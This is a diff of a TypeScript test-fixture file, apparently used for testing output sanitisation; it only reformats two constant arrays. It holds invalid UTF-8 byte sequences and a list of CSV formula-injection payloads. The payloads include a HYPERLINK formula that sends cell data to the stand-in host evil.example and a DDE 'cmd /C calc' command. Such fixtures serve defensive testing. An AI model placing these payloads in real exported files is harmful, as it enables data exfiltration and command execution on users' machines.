@@ -35,7 +35,9 @@ export function withContent(genuine: GenuineOutput, contents: Record<string, str
 export const RAW_BYTES_PLACEHOLDER = 'RAW-BYTES-PLACEHOLDER-5b1f';
 
 /** Byte sequences no UTF-8 decoder accepts: stray continuation, overlong, surrogate, past U+10FFFF, cut. */
-export const INVALID_UTF8 = Buffer.from([0x80, 0xbf, 0xc0, 0xaf, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0xf4, 0x90, 0x80, 0x80, 0xfe, 0xff, 0xe2, 0x82]);
+export const INVALID_UTF8 = Buffer.from([
+  0x80, 0xbf, 0xc0, 0xaf, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0xf4, 0x90, 0x80, 0x80, 0xfe, 0xff, 0xe2, 0x82,
+]);
 
 /** The genuine output grown, inside its logs section, to `bytes` bytes exactly (ASCII, so bytes = characters). */
 export function grownTo(genuine: GenuineOutput, bytes: number): string {
@@ -140,4 +142,11 @@ export const TERMINAL_PAYLOADS = [
 ] as const;
 
 /** Cells a spreadsheet would run as a formula. */
-export const CSV_PAYLOADS = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', '+SUM(1,2)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1)', '\t=1+1', '\r=1+1'] as const;
+export const CSV_PAYLOADS = [
+  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+  '+SUM(1,2)',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+] as const;
